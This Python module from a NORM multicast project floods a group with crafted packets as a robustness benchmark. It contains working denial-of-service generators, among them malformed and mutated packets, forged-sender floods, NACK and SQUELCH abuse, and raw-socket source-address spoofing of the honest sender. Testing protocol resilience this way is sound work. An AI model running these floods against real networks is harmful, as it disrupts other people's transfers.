"""Flood a NORM group with crafted packets, as an enemy on the network would.

    python -m benchmarks.attacks KIND --group 239.7.7.7:6003 --iface DEVICE [--seconds 10] [--rate N]

`KINDS` has the attacks by name: packets made with the codec of this project, and how many of them are sent in a second. Use it
in a network of your own; `benchmarks.hostile_transfer` runs each attack in namespaces beside an honest transfer.
"""

import argparse
import json
import os
import random
import socket
import sys
import time
from collections.abc import Callable, Iterator
from ipaddress import IPv4Address
from itertools import chain, count, islice
from typing import NamedTuple

from emu.addresses import SocketAddress, address_of, socket_address_of
from emu.udp import SendQueue, open_receiver, open_transmitter, receive_coalesced
from emu.udp_options import UdpOptions
from protocols.errors import WireError
from protocols.norm.messages import (
    FLAG_FILE,
    FLAG_INFO,
    FLAG_STREAM,
    Ack,
    Command,
    Data,
    Flush,
    Fti,
    Info,
    Nack,
    NormMessage,
    Origin,
    Probe,
    Squelch,
)
from protocols.norm.requests import (
    FORM_ITEMS,
    FORM_RANGES,
    LEVEL_BLOCK,
    LEVEL_OBJECT,
    LEVEL_SEGMENT,
    Item,
    Request,
)
from protocols.norm.wire.codec import NormCodec
from topologies.frames.building import frame

__all__ = ["KINDS", "VICTIM", "Attack", "flood", "main", "messages", "packets"]

VICTIM = Origin(1, 1, 60, 4, 3)
"""The honest sender, when no message of one was heard."""
ENEMY = 0xA0000000
"""The lowest node id of the forged senders."""
SMALL, BIG = Fti(5, 100, 1400, 64, 16), Fti(5, 50_000_000, 1400, 64, 16)
MOST_BLOCKS = Fti(5, 8 * (1 << 24), 8, 1, 0)
LONG_NACK, SHORT_NACK = 64_000, 800
"""Bytes of NACKs."""
PERIOD = 0.005
"""Seconds between two bursts of a flood."""
ETHERNET = 14
"""Bytes of an Ethernet header."""
KEPT, KEPT_BYTES, MAKING = 60_000, 64_000_000, 0.3
"""Packets that are made before a flood begins, their bytes, and the seconds this may take; the flood repeats them."""


class Attack(NamedTuple):
    """Messages to be sent `rate` times a second. `make` is given the origin of the honest sender.

    `hopeless` says why NORM without authentication can't resist; it is empty for an attack that must leave an honest
    transfer at least half of its goodput. With `forges_address` packets bear the honest sender's source address.
    """

    rate: int
    make: Callable[[Origin], Iterator[NormMessage | bytes]]
    hopeless: str = ""
    forges_address: bool = False


def _enemy(number: int = 0, instance: int = 1) -> Origin:
    return Origin(ENEMY + number, instance, 60, 4, 3)


def _data(origin: Origin, sequence: int, object_id: int, block: int, symbol: int, fti: Fti, flags: int = FLAG_FILE) -> Data:
    length = fti.partition.length(block)
    partition = fti.partition
    size = partition.payload(partition.first(block) + symbol) if symbol < length else partition.vector(block)
    names = fti.fec_id, object_id & 0xFFFF, block, symbol, length, fti
    return Data(origin, sequence & 0xFFFF, flags, *names, bytes(size), size)


# -- bytes that are no messages ------------------------------------------------------------------------------------------


def _random_bytes(victim: Origin) -> Iterator[bytes]:
    del victim
    rng = random.Random(1)
    while True:
        # Packets of one length are sent together.
        size = rng.choice((8, 20, 44, 100, 400, 1424))
        yield from (rng.randbytes(size) for _ in range(32))


def _mutated(victim: Origin) -> Iterator[bytes]:
    """Yield messages of a forged sender, and feedback to the honest one, with one to four bytes changed."""
    rng, codec = random.Random(2), NormCodec()
    forged = (_gaps, _one_name, _absurd_flushes, _absurd_probes, _new_coding, _absurd_acks, _absent_objects)
    streams = [make(victim) for make in forged]
    while True:
        packet = codec.encode(next(rng.choice(streams)))
        for _ in range(16):
            changed = bytearray(packet)
            for _ in range(rng.randint(1, 4)):
                changed[rng.randrange(min(len(changed), 64))] = rng.randrange(256)
            yield bytes(changed)


# -- messages of forged senders ------------------------------------------------------------------------------------------


def _claimed_sizes(victim: Origin) -> Iterator[Data]:
    del victim
    for n in count():
        for fti in (Fti(5, (1 << 48) - 1 - n, 65_000, 255, 0), Fti(5, (1 << 40) + n, 1000, 255, 0)):
            yield Data(_enemy(), n & 0xFFFF, FLAG_FILE, 5, n & 0xFFFF, 0, 0, 255, fti, bytes(1000), 1000)


def _most_blocks(victim: Origin) -> Iterator[Data]:
    del victim
    rng = random.Random(3)
    for n in count():
        yield _data(_enemy(), n, n >> 8, rng.randrange(1 << 24) if n & 0xFF else 0, 0, MOST_BLOCKS)


def _tiny_objects(victim: Origin) -> Iterator[Data]:
    del victim
    for n in count():
        yield _data(_enemy(), n, n, 0, 0, SMALL)


def _one_name(victim: Origin) -> Iterator[NormMessage]:
    del victim
    for n in count():
        yield Info(_enemy(), 2 * n & 0xFFFF, FLAG_FILE | FLAG_INFO, 5, n & 0xFFFF, SMALL, b"holiday.jpg")
        yield _data(_enemy(), 2 * n + 1, n, 0, 0, SMALL, FLAG_FILE | FLAG_INFO)


def _left_open(victim: Origin) -> Iterator[Data]:
    del victim
    for n in count():
        yield _data(_enemy(n % 256), n >> 8, n >> 8, 0, 0, BIG)


def _open_streams(victim: Origin) -> Iterator[Data]:
    del victim
    for n in count():
        yield _data(_enemy(n % 256), n >> 8, n >> 8, 0, 0, BIG, FLAG_STREAM)


def _new_senders(victim: Origin) -> Iterator[Data]:
    del victim
    for n in count():
        yield _data(_enemy(n % 30_000), n // 30_000, n // 30_000, 0, 0, BIG)


def _new_probers(victim: Origin) -> Iterator[Probe]:
    del victim
    for n in count():
        yield Probe(_enemy(n % 30_000), n // 30_000 & 0xFFFF, n // 30_000 & 0xFFFF, 1, n, 0x4005)


def _gaps(victim: Origin) -> Iterator[Data]:
    """Yield every other symbol of large objects, of a sender without back-off: each reveals a loss."""
    del victim
    origin = Origin(ENEMY, 1, 0, 0, 0)
    fti = Fti(5, 64_000_000, 100, 8, 0)
    for n in count():
        symbol = 2 * n % fti.partition.segments
        yield _data(origin, 2 * n, 2 * n // fti.partition.segments, symbol >> 3, symbol & 7, fti)


def _absurd_flushes(victim: Origin) -> Iterator[Flush]:
    del victim
    for n in count():
        yield Flush(_enemy(n % 4), n & 0xFFFF, 5, n * 300 & 0xFFFF, 0xFFFFFE, 0xFE)


def _absurd_probes(victim: Origin) -> Iterator[Probe]:
    del victim
    for n in count():
        origin = Origin(ENEMY + n % 4, 1, 255 * (n & 1), 15, 15)
        yield Probe(origin, n & 0xFFFF, n & 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFF)


def _squelches(victim: Origin) -> Iterator[NormMessage]:
    """Yield SQUELCH of all objects of a forged sender that has some open."""
    del victim
    for n in count():
        yield _data(_enemy(), 2 * n, n, 0, 0, BIG)
        yield Squelch(_enemy(), 2 * n + 1 & 0xFFFF, 5, n & 0xFFFF, 0, 0, 0, tuple(range(32_000)))


def _new_coding(victim: Origin) -> Iterator[Data]:
    del victim
    for n in count():
        yield _data(_enemy(), n, n >> 6, 0, n & 7, Fti(5, 1_000_000 + n, 100, 8 + n % 200, n % 16))


def _new_instances(victim: Origin) -> Iterator[Data]:
    del victim
    for n in count():
        yield _data(_enemy(0, n & 0xFFFF), n, 0, 0, 0, BIG)


# -- feedback to the honest sender ----------------------------------------------------------------------------------------


def _nack(victim: Origin, n: int, *requests: Request) -> Nack:
    return Nack(ENEMY + n % 64, 0, victim.source_id, victim.instance_id, 0, 0, requests)


def _long_nacks(victim: Origin) -> Iterator[Nack]:
    for n in count():
        rows = [Item(5, 0, (n + step) * 2 % 120) for step in range(LONG_NACK // 8)]
        yield _nack(victim, n, Request(FORM_ITEMS, LEVEL_BLOCK, tuple(rows)))


def _absent_objects(victim: Origin) -> Iterator[Nack]:
    for n in count():
        rows = [Item(5, 5000 + (n + step) % 40_000, n & 0xFFFF, 1) for step in range(SHORT_NACK // 8)]
        yield _nack(victim, n, Request(FORM_ITEMS, LEVEL_SEGMENT, tuple(rows)))


def _absurd_acks(victim: Origin) -> Iterator[Ack]:
    """Yield answers to probes of long ago, of the future and of nobody."""
    for n in count():
        clock = ((0, 1), (0xFFFFFFFF, 0xFFFFFFFF), (1, 0), (n & 0xFF, 0xFFFFFFFF))[n & 3]
        yield Ack(ENEMY + n % 64, 0, victim.source_id, victim.instance_id, (1, 2, 255)[n % 3], n & 0xFF, *clock)


def _everything(victim: Origin) -> Iterator[Nack]:
    for n in count():
        yield _nack(victim, n, Request(FORM_RANGES, LEVEL_OBJECT, (Item(5, 0), Item(5, 0x7FFF))))


# -- messages in the name of the honest sender ------------------------------------------------------------------------------


def _as_victim_data(victim: Origin) -> Iterator[Data]:
    fti = Fti(5, 10_000_000, 1400, 64, 16)
    for n in count():
        yield _data(victim, n, 0, n % fti.partition.blocks, n % 10, fti)


def _as_victim_squelch(victim: Origin) -> Iterator[Squelch]:
    for n in count():
        yield Squelch(victim, n & 0xFFFF, 5, 1, 0, 0, 0, (0,))


def _as_victim_flush(victim: Origin) -> Iterator[Flush]:
    for n in count():
        yield Flush(victim, n & 0xFFFF, 5, n * 300 & 0x7FFF, 1, 1)


def _as_victim_instance(victim: Origin) -> Iterator[Probe]:
    for n in count():
        origin = Origin(victim.source_id, n & 0xFFFF, victim.grtt, victim.backoff, victim.gsize)
        yield Probe(origin, n & 0xFFFF, n & 0xFFFF, 1, 0, 0x4005)


def _as_victim_timing(victim: Origin) -> Iterator[Probe]:
    for n in count():
        yield Probe(Origin(victim.source_id, victim.instance_id, 255, 15, 15), n & 0xFFFF, n & 0xFFFF, 1, 0, 0x4005)


IN_ITS_NAME = {
    "DATA": (1_000, _as_victim_data),
    "SQUELCH": (10, _as_victim_squelch),
    "FLUSH": (10, _as_victim_flush),
    "instances": (10, _as_victim_instance),
    "timing": (10, _as_victim_timing),
}
KINDS: dict[str, Attack] = {
    "random bytes": Attack(20_000, _random_bytes),
    "mutated packets": Attack(20_000, _mutated),
    "claimed sizes to 2^48": Attack(5_000, _claimed_sizes),
    "objects of 2^24 blocks": Attack(20_000, _most_blocks),
    "one-packet objects": Attack(20_000, _tiny_objects),
    "objects of one name": Attack(20_000, _one_name),
    "objects left open, 256 senders": Attack(5_000, _left_open),
    "streams left open, 256 senders": Attack(5_000, _open_streams),
    "30,000 sender ids, DATA": Attack(5_000, _new_senders),
    "30,000 sender ids, CMD(CC)": Attack(20_000, _new_probers),
    "sequential gaps": Attack(30_000, _gaps),
    "NACKs of 64 kB": Attack(100, _long_nacks),
    "NACKs for absent objects": Attack(5_000, _absent_objects),
    "SQUELCH of 32,000 ids": Attack(100, _squelches),
    "absurd FLUSH": Attack(20_000, _absurd_flushes),
    "absurd CMD(CC)": Attack(20_000, _absurd_probes),
    "absurd ACK": Attack(20_000, _absurd_acks),
    "another FTI in every packet": Attack(20_000, _new_coding),
    "another instance in every packet": Attack(5_000, _new_instances),
    "NACK for everything, without end": Attack(
        200, _everything, "a receiver that lost all of it would ask the same, so the sender repeats what it can"
    ),
    **{f"{what} in the sender's name": Attack(*attack) for what, attack in IN_ITS_NAME.items()},
    **{
        f"{what} from the sender's address": Attack(*attack, "receivers can't tell it from a message of the sender", True)
        for what, attack in IN_ITS_NAME.items()
    },
}


def messages(kind: str, victim: Origin = VICTIM) -> Iterator[NormMessage | bytes]:
    """Yield the messages of an attack without end; bytes where they are none."""
    return KINDS[kind].make(victim)


def packets(kind: str, victim: Origin = VICTIM) -> Iterator[bytes]:
    """Yield the packets of an attack without end."""
    codec = NormCodec()
    return (made if isinstance(made, bytes) else codec.encode(made) for made in messages(kind, victim))


# -- the flood ---------------------------------------------------------------------------------------------------------


def await_sender(group: str, address: str, seconds: float) -> tuple[Origin, SocketAddress | None]:
    """Return origin and address of the first sender message on the group that is no enemy's; `VICTIM` without any in time."""
    sock = open_receiver(socket_address_of(group), address, 1 << 20)
    codec, end = NormCodec(), time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            try:
                data, segment, source, *_ = receive_coalesced(sock)
                message = codec.decode(data[:segment])
            except (BlockingIOError, WireError):
                time.sleep(0.001)
                continue
            if isinstance(message, (Data, Info, Command)) and message.origin.source_id < ENEMY:
                return message.origin, source
    finally:
        sock.close()
    return VICTIM, None


class ForgingQueue:
    """Sends packets that bear another source address, by a raw socket (raw(7)); it has the methods of a `SendQueue`."""

    blocked = False

    def __init__(self, address: str, source: SocketAddress) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        self._source = IPv4Address(source[0]), source[1]
        self._sent = 0

    def push(self, data: bytes, to: SocketAddress) -> None:
        """Send a packet."""
        self._sent += 1
        self._sock.sendto(frame(self._source, (IPv4Address(to[0]), to[1]), data, self._sent)[ETHERNET:], to)

    def flush(self) -> None:
        """Do nothing: no packet waits."""

    retry = flush


def flood(kind: str, group: str, interface: str | None, seconds: float, rate: float) -> tuple[int, float]:
    """Send `rate` packets a second for some seconds, once a sender is heard if they concern it.

    Returns the number of packets and the seconds they took. SIGINT ends it early.
    """
    address, to = address_of(interface), socket_address_of(group)
    # What all messages of an attack have in common is whether they depend on the sender.
    is_aimed = next(messages(kind, VICTIM)) != next(messages(kind, Origin(2, 2, 60, 4, 3)))
    victim, forged = await_sender(group, address, seconds) if is_aimed or kind == "mutated packets" else (VICTIM, None)
    stock = _stock(packets(kind, victim), max(min(KEPT, round(rate * seconds)), 1))
    queue: SendQueue | ForgingQueue = SendQueue(open_transmitter(address, UdpOptions(), 4 << 20))
    if KINDS[kind].forges_address and forged is not None:
        queue = ForgingQueue(address, forged)
    source, begin, sent = chain.from_iterable(stock for _ in count()), time.monotonic(), 0
    try:
        while (elapsed := time.monotonic() - begin) < seconds:
            # A flood that is late catches up a little, so that the rate is what is wanted.
            wanted = min(round(rate * elapsed) + 1, sent + max(round(4 * rate * PERIOD), 1))
            for packet in islice(source, max(wanted - sent, 0)):
                queue.push(packet, to)
            queue.flush()
            sent = max(sent, wanted)
            time.sleep(PERIOD)
            if queue.blocked:
                queue.retry()
    except KeyboardInterrupt:
        pass
    return sent, time.monotonic() - begin


def _stock(made: Iterator[bytes], most: int) -> list[bytes]:
    """Return the packets that a flood repeats."""
    stock: list[bytes] = []
    octets, end = 0, time.monotonic() + MAKING
    for packet in islice(made, most):
        stock.append(packet)
        octets += len(packet)
        if octets > KEPT_BYTES or time.monotonic() > end:
            break
    return stock


def main() -> int:
    """Run the program."""
    parser = argparse.ArgumentParser(description="Flood a NORM group with crafted packets.")
    parser.add_argument("kind", choices=KINDS, metavar="KIND", help=", ".join(KINDS))
    parser.add_argument("--group", required=True)
    parser.add_argument("--iface")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--rate", type=float, help="packets per second")
    options = parser.parse_args()
    os.nice(5)
    rate = options.rate or KINDS[options.kind].rate
    sent, seconds = flood(options.kind, options.group, options.iface, options.seconds, rate)
    print(json.dumps({"packets": sent, "seconds": round(seconds, 3)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
